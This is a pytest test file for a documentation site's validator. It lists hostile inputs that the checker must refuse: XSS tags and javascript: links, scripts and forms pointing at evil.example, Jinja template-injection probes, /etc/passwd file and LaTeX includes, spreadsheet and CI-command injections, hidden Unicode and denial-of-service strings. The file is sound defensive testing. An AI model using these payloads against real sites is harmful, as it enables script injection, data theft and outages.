"""Hostile words in pages, arguments, records, sources and examples: each is refused in words, at its place, at once."""

from __future__ import annotations

import pytest

from macros import unsafe
from tests.unit import project
from tests.unit.project import (
    BIB,
    BODY,
    CHANGES,
    GLOSSARY,
    NEWS,
    PAGE,
    SNIPPET,
    STATISTICS,
    TIMELINE,
    TITLE,
)
from tests.unit.project import EXAMPLE as GOOD

HTML, LIST, ADDRESS = (
    "cannot be used in a page",
    "Words in { } can give",
    "Use https://, or a page or picture of this site",
)
HERE, HIDDEN, HEAP, DEEP, JINJA = (
    "A review followed",
    "cannot be seen",
    "signs",
    "set in very deep",
    "and nothing else of Jinja",
)

# Markdown that runs, hides, leads elsewhere or stalls: (the words, part of the message)
PAGES = {
    "script": ("<script>alert(1)</script>", HTML),
    "script in capitals": ("<ScRiPt>alert(1)</sCrIpT>", HTML),
    "script that is not closed": ("<script src=//evil.example/x.js>", HTML),
    "script split by a slash": ("<script/x>alert(1)</script>", HTML),
    "script with a line break in it": ("<script\n>alert(1)</script>", HTML),
    "script in a list": ("- a\n- <script>alert(1)</script>", HTML),
    "script in a quotation": ("> <script>alert(1)</script>", HTML),
    "script in a table": ("| a |\n|---|\n| <script>alert(1)</script> |", HTML),
    "script in a heading": ("## <script>alert(1)</script>", HTML),
    "script in a box": ("!!! note\n\n    <script>alert(1)</script>", HTML),
    "script after a fence that nothing closes": ("```\n<script>alert(1)</script>", HTML),
    "script in an allowed element": ("<div><script>alert(1)</script></div>", HTML),
    "style sheet": ("<style>*{display:none}</style>", HTML),
    "picture with an event": ("<img src=x onerror=alert(1)>", HTML),
    "drawing with an event": ("<svg onload=alert(1)>", HTML),
    "drawing that moves": ("<svg><animate onbegin=alert(1)></svg>", HTML),
    "formula": ('<math href="javascript:alert(1)">x</math>', HTML),
    "frame": ('<iframe src="https://evil.example"></iframe>', HTML),
    "frame with its own page": ('<iframe srcdoc="<script>x</script>"></iframe>', HTML),
    "object": ("<object data=x></object>", HTML),
    "embedded thing": ("<embed src=x>", HTML),
    "film": ("<video src=x onerror=alert(1)>", HTML),
    "sound": ("<audio src=x onerror=alert(1)>", HTML),
    "form": ("<form action=https://evil.example><input name=word></form>", HTML),
    "input that takes the focus": ("<input autofocus onfocus=alert(1)>", HTML),
    "button elsewhere": ("<button formaction=javascript:alert(1)>x</button>", HTML),
    "base of all links": ('<base href="https://evil.example/">', HTML),
    "refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', HTML),
    "policy of its own": (
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        HTML,
    ),
    "style sheet from elsewhere": (
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        HTML,
    ),
    "link that runs": ('<a href="javascript:alert(1)">x</a>', HTML),
    "link as HTML": ('<a href="https://evil.example">x</a>', HTML),
    "body with an event": ("<body onload=alert(1)>", HTML),
    "template": ("<template><script>x</script></template>", HTML),
    "noscript that breaks out": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        HTML,
    ),
    "text area that breaks out": ("<textarea></textarea><script>x</script>", HTML),
    "title that breaks out": ("<title></title><script>x</script>", HTML),
    "plain text that hides the rest": ("<plaintext>", HTML),
    "old frame set": ("<frameset onload=alert(1)>", HTML),
    "running text": ("<marquee onstart=alert(1)>x</marquee>", HTML),
    "portal": ("<portal src=x>", HTML),
    "dialog": ("<dialog open>Your session has ended</dialog>", HTML),
    "declaration": ("<!DOCTYPE html>", HTML),
    "processing instruction": ("<?xml version='1.0'?>", HTML),
    "unknown element": ("<x-evil>x</x-evil>", HTML),
    "element of the theme": ("<site-search data-script='x'></site-search>", HTML),
    "event of an allowed element": ("<div onclick=alert(1)>x</div>", "cannot be an attribute"),
    "event in capitals": ("<div OnClIcK=alert(1)>x</div>", "cannot be an attribute"),
    "look of an allowed element": (
        '<p style="position:fixed;inset:0">x</p>',
        "cannot be an attribute",
    ),
    "focus of an allowed element": (
        "<p tabindex=1 onfocus=alert(1)>x</p>",
        "cannot be an attribute",
    ),
    "event behind a slash": ("<div/onclick=alert(1)>x</div>", "cannot be an attribute"),
    "link of an allowed element": ("<p href=javascript:x>x</p>", "cannot be an attribute"),
    "element that could be edited": (
        "<div contenteditable onbeforeinput=alert(1)>x</div>",
        "cannot be an attribute",
    ),
    "component of the theme": ('<div data-md-component="search">x</div>', "cannot be an attribute"),
    "event in an attribute list": ("x\n{: onclick=alert(1) }", LIST),
    "event in quotes": ('x\n{: onclick="alert(1)" }', LIST),
    "event on a link": ("[x](index.md){: onmouseover=alert(1) }", LIST),
    "event on a heading": ("## X {: onclick=alert(1) }", LIST),
    "event without a colon": ("## X { onclick=alert(1) }", LIST),
    "event after a name": ("x\n{: #a .b onfocus=alert(1) tabindex=1 }", LIST),
    "look in an attribute list": ('x\n{: style="display:none" }', LIST),
    "address in an attribute list": ("[x](index.md){: href=javascript:alert(1) }", LIST),
    "picture’s address in an attribute list": (
        "![x](assets/x.png){: src=https://evil.example/x.gif }",
        LIST,
    ),
    "set of pictures": ("![x](assets/x.png){: srcset=https://evil.example/x.gif }", LIST),
    "event in capitals in a list": ("x\n{: ONCLICK=alert(1) }", LIST),
    "ping": ("[x](index.md){: ping=https://evil.example }", LIST),
    "link that runs in Markdown": ("[x](javascript:alert(1))", ADDRESS),
    "link in capitals": ("[x](JaVaScRiPt:alert(1))", ADDRESS),
    "link with a blank first": ("[x]( javascript:alert(1))", ADDRESS),
    "link as codes": ("[x](java&#115;cript:alert(1))", ADDRESS),
    "link as codes in hex": ("[x](&#x6A;avascript:alert(1))", ADDRESS),
    "link with a named code": ("[x](javascript&colon;alert(1))", ADDRESS),
    "link with a tab as code": ("[x](java&Tab;script:alert(1))", ADDRESS),
    "link in angle brackets": ("[x](<javascript:alert(1)>)", ADDRESS),
    "link with a title": ('[x](javascript:alert(1) "y")', ADDRESS),
    "link by reference": ("[x][1]\n\n[1]: javascript:alert(1)", ADDRESS),
    "link by reference on two lines": ("[x][1]\n\n[1]:\n    javascript:alert(1)", ADDRESS),
    "link by a short reference": ("[x]\n\n[x]: javascript:alert(1)", ADDRESS),
    "Visual Basic": ("[x](vbscript:msgbox(1))", ADDRESS),
    "page in an address": ("[x](data:text/html,<script>x</script>)", ADDRESS),
    "page in an address by reference": (
        "[x][1]\n\n[1]: data:text/html;base64,PHNjcmlwdD4=",
        ADDRESS,
    ),
    "file of the computer": ("[x](file:///etc/passwd)", ADDRESS),
    "blob": ("[x](blob:https://evil.example/1)", ADDRESS),
    "source of a page": ("[x](view-source:https://evil.example)", ADDRESS),
    "other host without saying how": ("[x](//evil.example)", ADDRESS),
    "other host with backslashes": ("[x](\\\\\\\\evil.example)", ADDRESS),
    "settings of the browser": ("[x](chrome://settings)", ADDRESS),
    "telephone": ("[x](tel:+442079460000)", ADDRESS),
    "word processor": ("[x](ms-word:ofe|u|https://evil.example/x.docm)", ADDRESS),
    "search of Windows": ("[x](search-ms:query=x&crumb=location:evil)", ADDRESS),
    "picture from elsewhere": ("![x](https://tracker.example/x.gif)", ADDRESS),
    "picture without saying how": ("![x](//tracker.example/x.gif)", ADDRESS),
    "picture in an address": ("![x](data:image/svg+xml,<svg onload=x>)", ADDRESS),
    "picture by reference": ("![x][1]\n\n[1]: https://tracker.example/x.gif", ADDRESS),
    "picture inside a link": ("[![x](https://tracker.example/x.gif)](index.md)", ADDRESS),
    "autolink that runs": ("<javascript:alert(1)>", f"{ADDRESS}|{HTML}"),
    "marks of Git": (
        "<<<<<<< HEAD\nours\n=======\ntheirs\n>>>>>>> theirs",
        "where two changes met",
    ),
    "one mark of Git": ("<<<<<<< HEAD", "where two changes met"),
    "last mark of Git": (">>>>>>> 1a2b3c", "where two changes met"),
    "NUL": ("a\0b", HIDDEN),
    "escape": ("a\x1b[31mb", HIDDEN),
    "bell": ("a\ab", HIDDEN),
    "backspace": ("evil\b\b\b\bgood", HIDDEN),
    "C1 control": ("a\x9bb", HIDDEN),
    "next line": ("a\x85b", HIDDEN),
    "right to left": ("a\u202egpj.exe", HIDDEN),
    "isolate": ("a\u2066b\u2069", HIDDEN),
    "mark of direction": ("a\u200fb", HIDDEN),
    "Arabic letter mark": ("a\u061cb", HIDDEN),
    "zero-width space": ("a\u200bb", HIDDEN),
    "word joiner": ("a\u2060b", HIDDEN),
    "soft hyphen": ("re\u00adtention", HIDDEN),
    "byte-order mark inside": ("a\ufeffb", HIDDEN),
    "line separator": ("a\u2028b", HIDDEN),
    "paragraph separator": ("a\u2029b", HIDDEN),
    "tag letters": ("a\U000e0041\U000e0042", HIDDEN),
    "supplement of variation selectors": ("a\U000e0100\U000e01ef", HIDDEN),
    "noncharacter": ("a\uffffb", HIDDEN),
    "noncharacter inside": ("a\ufdd0b", HIDDEN),
    "private letter": ("a\ue000b", HIDDEN),
    "Hangul filler": ("a\u3164b", HIDDEN),
    "half-width filler": ("a\uffa0b", HIDDEN),
    "joiner of graphemes": ("a\u034fb", HIDDEN),
    "interlinear mark": ("a\ufff9b", HIDDEN),
    "musical mark": ("a\U0001d173b", HIDDEN),
    "invisible times": ("a\u2062b", HIDDEN),
    "Mongolian separator": ("a\u180eb", HIDDEN),
    "page break": ("a\x0cb", HIDDEN),
    "50,000 brackets": ("[" * 50_000, HEAP),
    "50,000 brackets on lines": ("[\n" * 50_000, HEAP),
    "50,000 links": ("[a](" * 50_000, HEAP),
    "50,000 stars": ("*a" * 50_000, HEAP),
    "50,000 backticks": ("`a" * 50_000, HEAP),
    "50,000 underscores": ("_a_" * 25_000, HEAP),
    "50,000 tags": ("<a " * 50_000, HEAP),
    "50,000 pictures": ("![" * 50_000, HEAP),
    "50,000 codes": ("&amp;" * 50_000, HEAP),
    "50,000 braces": ("{:" * 50_000, HEAP),
    "50,000 parentheses": ("(" * 50_000, HEAP),
    "50,000 backslashes": ("\\" * 50_000, HEAP),
    "50,000 quotations": (">" * 50_000, HEAP),
    "400 lists in each other": ("- " * 400 + "x", DEEP),
    "400 levels of list": ("\n".join(" " * 2 * n + "- x" for n in range(400)), DEEP),
    "50 quotations in each other": ("> " * 50 + "x", DEEP),
    "50 numbers in each other": ("1. " * 50 + "x", DEEP),
    "text set in by 400 tabs": ("\t" * 400 + "x", DEEP),
    "page of three million letters": ("x" * 3_000_000, "more than"),
    "value of the settings": ("{{ config.docs_dir }}", JINJA),
    "value of the machine": ("{{ environment.system }}", JINJA),
    "class of a text": ('{{ "".__class__.__mro__ }}', JINJA),
    "loop without end": ("{% for i in range(999999999) %}x{% endfor %}", JINJA),
    "other file": ('{% include "mkdocs.yml" %}', JINJA),
    "template taken in": ('{% import "main.html" as m %}', JINJA),
    "condition that puts a tag together": ("<scr{% if true %}ipt>{% endif %}", f"{JINJA}|{HTML}"),
    "raw that puts an address together": ("[a](java{% raw %}script:x{% endraw %})", JINJA),
    "condition that puts an address together": ("[a](java{% if true %}script:x{% endif %})", JINJA),
    "condition that takes line ends away": (
        "java\n{%- if true -%}\nscript:x\n{%- endif -%}",
        JINJA,
    ),
    "condition that runs long": ("{% if 9 ** 9 ** 9 %}\nx\n{% endif %}", JINJA),
    "condition that looks elsewhere": ("{% if config.docs_dir %}\nx\n{% endif %}", JINJA),
    "filter that grows": ('{{ stat("stay-2006") | center(9999999999) }}', JINJA),
    "filter that lets HTML through": ('{{ stat("stay-2006") | default("<b>", true) }}', JINJA),
    "value set": ("{% set x = 1 %}", JINJA),
    "text of a million words": ("{{ lipsum(n=1000000) }}", JINJA),
    "sum": ("{{ 9 ** 9 ** 9 }}", JINJA),
    "text repeated": ('{{ "a" * 9999999999 }}', JINJA),
    "filter": ('{{ "x" | replace("x", "<script>") }}', JINJA),
    "HTML let through": ('{{ "<script>alert(1)</script>" | safe }}', JINJA),
    "function of a name": ("{{ macros.cite }}", JINJA),
    "value as HTML": ('{{ "<script>" }}', JINJA),
    "sum inside a call": ("{{ cite(9 ** 9 ** 9) }}", "not in quotation marks"),
    "text repeated inside a call": ('{{ cite("a" * 9999999999) }}', "not in quotation marks"),
    "function inside a call": ("{{ cite(lipsum()) }}", "not in quotation marks"),
    "nested conditions": (
        "\n\n".join(["{% if x %}"] * 600),
        "Macros stand within each other|cannot be read|nothing else",
    ),
    "a thousand times not": (
        "{{ " + "not " * 5_000 + "1 }}",
        "Macros stand within each other|nothing else",
    ),
}


@pytest.mark.parametrize(("words", "expected"), PAGES.values(), ids=PAGES)
def test_hostile_words_in_a_page_are_refused_at_their_place(tmp_path, words, expected):
    """The message names the page and tells what to do; nothing is rendered to find out."""
    found = project.problems(
        tmp_path, {"docs/index.md": PAGE.replace(HERE, f"\n\n{words}\n\nA review followed")}
    )

    assert any(
        line.startswith("docs/index.md:") and any(e in line for e in expected.split("|"))
        for line in found
    ), found
    assert all(line.isprintable() and len(line) < 700 for line in found)


@pytest.mark.parametrize(
    "name",
    [
        "script",
        "picture with an event",
        "link that runs in Markdown",
        "picture from elsewhere",
        "link by reference",
        "right to left",
        "NUL",
        "marks of Git",
        "event in an attribute list",
        "50,000 brackets",
        "400 levels of list",
        "other host without saying how",
        "filter",
        "loop without end",
    ],
)
def test_hostile_words_in_an_argument_are_refused_too(tmp_path, name):
    """An argument is read by the same rules as a page."""
    words, expected = PAGES[name]
    found = project.problems(tmp_path, {"docs/snippets/stay.md": SNIPPET + f"\n\n{words}\n"})

    assert any(
        line.startswith("docs/snippets/stay.md:")
        and (expected in line or "An argument uses no filters" in line)
        for line in found
    ), found


TAG, SIGNS, BREAK = "read as HTML", "Two curly brackets", "holds a line break"
# Values of records, judged after reading: (what stands in the YAML, part of the message)
VALUES = {
    "script": ('"<script>alert(1)</script>"', TAG),
    "script as escapes": ('"\\x3cscript\\x3ealert(1)"', TAG),
    "script as codes": ('"&lt;script&gt;"', TAG),
    "script as numbers": ('"&#60;script&#62;"', TAG),
    "script in wide signs": ('"＜script＞"', TAG),
    "comment": ('"<!-- x -->"', TAG),
    "end of an element": ('"</p>"', TAG),
    "picture": ("'<img src=x onerror=alert(1)>'", TAG),
    "end of a script": ('"</script><script>"', TAG),
    "macro": ("'{{ config }}'", SIGNS),
    "statement": ("'{% include \"x\" %}'", SIGNS),
    "comment of Jinja": ("'{# x #}'", SIGNS),
    "macro as escapes": ('"\\x7b\\x7b config }}"', SIGNS),
    "macro as codes": ('"&#123;&#123; x"', SIGNS),
    "link that runs": ("'[x](javascript:alert(1))'", ADDRESS),
    "picture from elsewhere in Markdown": ("'![x](https://tracker.example/x.gif)'", ADDRESS),
    "address that runs": ("'javascript:alert(1)'", "leads to a script"),
    "address that runs as an escape": ('"java\\x73cript:alert(1)"', "leads to a script"),
    "page as an address": ("'data:text/html,x'", "leads to a script"),
    "NUL": ('"a\\0b"', HIDDEN),
    "escape of a terminal": ('"a\\e[31mb"', HIDDEN),
    "control": ('"a\\x01b"', HIDDEN),
    "noncharacter": ('"a\\uFFFEb"', HIDDEN),
    "direction": ('"a\\u202eb"', HIDDEN),
    "zero width": ('"a\\u200bb"', HIDDEN),
    "delete": ('"a\\x7fb"', HIDDEN),
    "tag letters": ('"a\\U000E0041b"', HIDDEN),
    "next line": ('"a\\Nb"', HIDDEN),
    "line separator": ('"a\\Lb"', HIDDEN),
    "carriage return": ('"a\\rb"', HIDDEN),
    "line break": ('"a\\nb"', BREAK),
    "block of lines": ("|-\n    a\n    b", BREAK),
    "forged record": ('"A\\nER  - \\n\\nTY  - RPRT"', BREAK),
    "forged command": ('"a\\n::error file=x::y"', BREAK),
    "forged row": ('"a\\n=cmd,1"', BREAK),
}
RECORDS = {
    "data/news.yml": (NEWS, "title: The site opens", "title"),
    "data/glossary.yml": (GLOSSARY, "full: Post-qualifying", "full"),
    "data/changes.yml": (CHANGES, "became: It was abolished.", "became"),
    "data/statistics.yml": (STATISTICS, "where: West Midlands", "where"),
    "data/timeline.yml": (TIMELINE, "long: General Social Care Council", "long"),
    "docs/index.md": (PAGE, "title: Home", "title"),
    "docs/snippets/stay.md": (SNIPPET, "title: Award holders say they stay", "title"),
}


@pytest.mark.parametrize(("value", "expected"), VALUES.values(), ids=VALUES)
def test_a_value_is_judged_after_its_escapes_are_undone(tmp_path, value, expected):
    """In every file of records, and in the fields of pages and arguments."""
    assert all(was in text for text, was, _ in RECORDS.values())
    changed = {
        file: text.replace(was, f"{field}: {value}") for file, (text, was, field) in RECORDS.items()
    }
    found = project.problems(tmp_path, changed)

    for file in RECORDS:
        assert any(line.startswith(f"{file}:") and expected in line for line in found), (
            file,
            found,
        )
    assert all(line.isprintable() for line in found)


LIBRARY = {
    "script in a title": ("{Post hoc survey}", "{Post <script>alert(1)</script>}"),
    "address that runs": ("note = {Unpublished survey.}", "url = {javascript:alert(1)}"),
    "address of data": ("note = {Unpublished survey.}", "url = {data:text/html,x}"),
    "macro in a note": ("Unpublished survey.", "{{ config }} x {% y %}"),
    "control in a title": ("Post hoc survey", "Post\x01hoc"),
    "escape in a note": ("Unpublished survey.", "\x1b[31m"),
    "direction in a title": ("Post hoc", "Post \u202ehoc"),
    "zero width in an author": ("Rowland, M.", "Row\u200bland, M."),
    "script in an author": ("Rowland, M.", "<script>, M."),
    "marks of Git": ("@unpublished{rowland2006,", "<<<<<<< HEAD\n@unpublished{rowland2006,"),
    "picture in a note": ("Unpublished survey.", "<img src=x onerror=alert(1)>"),
    "NUL in a key": ("@unpublished{rowland2006,", "@unpublished{row\0land2006,"),
    "noncharacter": ("Post hoc survey", "Post \ufffe"),
    "a command of LaTeX": ("Post hoc survey", "\\input{/etc/passwd}"),
    "another file": ("Post hoc survey", "\\include{/etc/passwd}"),
    "half an entry": ("note = {Unpublished survey.}\n", "note = {Unpublished"),
    "link in a note": ("Unpublished survey.", "[x](javascript:alert(1))"),
    "byte of another encoding": ("Post hoc survey", b"Post \xe9"),
}


@pytest.mark.parametrize(("was", "now"), LIBRARY.values(), ids=LIBRARY)
def test_hostile_words_in_the_library_are_refused(tmp_path, was, now):
    """In whatever field, and the library is named."""
    assert was in BIB
    text = BIB.encode().replace(was.encode(), now if isinstance(now, bytes) else now.encode(), 1)
    found = [
        line
        for line in project.problems(tmp_path, {"references.bib": text})
        if "warning" not in line
    ]

    assert any(line.startswith("references.bib:") for line in found) and all(
        line.isprintable() for line in found
    ), found


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('"Riverside, jane.smith\\x40riverside.gov.uk"', "looks like an e-mail address"),
        ('"2023, ring \\x3020 7946 0958"', "looks like a telephone number"),
        ('"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"', "read as HTML"),
        ('"Costs \\u202e000,1"', "cannot be seen"),
        ('"Costs\\0of it"', "cannot be seen"),
        ('"\\e[31mCosts"', "cannot be seen"),
        ('"Co\\u200bsts"', "cannot be seen"),
        ('"A\\nER  - \\n\\nTY  - RPRT"', BREAK),
        ("|-\n  A\n  ER  -", BREAK),
        ('"\\x7b\\x7b config }}"', "curly brackets"),
        ('"\\U000E0100x"', "cannot be seen"),
        ('"x\\U0001D173"', "cannot be seen"),
    ],
)
def test_an_example_cannot_hide_words_in_escapes(tmp_path, value, expected):
    """What the rules refuse in a line, they refuse in the value that the line makes."""
    found = project.problems(tmp_path, {"docs/examples/x.md": GOOD.replace(f'"{TITLE}"', value)})

    assert any("docs/examples/x.md" in line and expected in line for line in found), found


@pytest.mark.parametrize(
    "number",
    [
        "(020) 7946 0958",
        "(01632) 960 983",
        "020  7946  0958",
        "020/7946/0958",
        "020–7946–0958",
        "020.7946.0958",
        "+44 20 7946 0958",
        "0044 20 7946 0958",
        "07700 900 123",
    ],
)
def test_a_telephone_number_is_known_however_people_write_it(tmp_path, number):
    """It is left out of what is published."""
    assert any(
        "telephone number" in line
        for line in project.problems(
            tmp_path, {"docs/examples/x.md": GOOD.replace(BODY, f"Ring {number}.")}
        )
    )


@pytest.mark.parametrize(
    "words",
    [
        "[Note]: costs exclude VAT",
        "[1]: Our own data",
        "We met @ 9.am on Mondays",
        "From 01/09/2024 - 31/07/2025",
        "01.09.2024–31.07.2025",
        "It cost £0.50 for 1,200 sheets",
        "> [Note]: shared by three councils",
        "2019/20 to 2024/25",
        "Cohorts of 10, 12, 14, 16 and 18",
        "```\nif x:\n    y\n```",
    ],
)
def test_honest_words_of_an_example_are_accepted(tmp_path, words):
    """Looking like something bad is not enough."""
    assert project.problems(tmp_path, {"docs/examples/x.md": GOOD.replace(BODY, words)}) == []


@pytest.mark.parametrize(
    "words",
    [
        "> [x]: //evil.example",
        "- [x]: //evil.example",
        "[x\\]y]: //evil.example",
        "[" + "x" * 300 + "]: //evil.example",
        "[x]:\n//evil.example",
        "[x]: http://evil.example 'why'",
        "[x]: javascript:alert(1)",
        "[x]: <//evil.example>",
        "jane@bücher.example",
        "1. [x]: ftp://evil.example",
    ],
)
def test_an_address_defined_below_is_found_in_every_form(tmp_path, words):
    """In a quotation, a list, over two lines, with any label."""
    assert (
        project.problems(
            tmp_path, {"docs/examples/x.md": GOOD.replace(BODY, f"[x] was good.\n\n{words}")}
        )
        != []
    )


@pytest.mark.parametrize(
    "body",
    [
        GOOD.replace("## What it took", "```\n## What it took\n```"),
        GOOD.replace("## What we did", "```\n## What we did"),
        GOOD.replace(BODY, f"{BODY}\n\n> ## What changed\n>\n> Nothing"),
        GOOD.replace(BODY, f"{BODY}\n\nMine\n----\n\nMore."),
        GOOD.replace("## What changed", "~~~\n## What changed\n\nIt.\n\n~~~"),
    ],
)
def test_a_heading_that_nobody_sees_as_one_is_named(tmp_path, body):
    """In a piece of code, in a quotation, or made of a line below the words."""
    assert any(
        "docs/examples/x.md" in line
        and ("inside a piece of code" in line or "four headings" in line)
        for line in project.problems(tmp_path, {"docs/examples/x.md": body})
    )


HONEST = {
    "a number in a link": "See [the act](https://www.legislation.gov.uk/ukpga/2014/23/section/1#a).",
    "mail": "Write to [us](mailto:us@example.org).",
    "less than": "It is < 5 and 3 > 2.",
    "code": "Write `<script>` never.",
    "fence": "```\n<script>alert(1)</script>\n[x](javascript:1)\n```",
    "box": '<div class="app-doors" markdown>\n\n- One\n\n</div>',
    "attribute list": "## X {: #x .app-lead }",
    "autolink": "<https://example.org/x>",
    "table": "| a | b |\n| --- | --- |\n" + "| x | [y](https://example.org) |\n" * 200,
    "Persian": "می\u200cخواهم",
    "Hindi": "क्\u200dष",
    "emoji": "👩\u200d💻",
    "quotation": "> One\n> > Two",
    "heavy list": "\n".join(f"- [x{n}](https://example.org/{n})" for n in range(300)),
    "underline of a heading": "Words\n=======",
    "raw macro": '{% raw %}{{ cite("x") }}{% endraw %}',
    "accents": "naïve café — “quoted” £5 ½ ﬁ",
}


@pytest.mark.parametrize("words", HONEST.values(), ids=HONEST)
def test_honest_words_of_a_page_are_accepted(words):
    """None of the rules of what may not stand in a page speaks."""
    assert [*unsafe.page_text(words), *unsafe.file_text(words)] == []
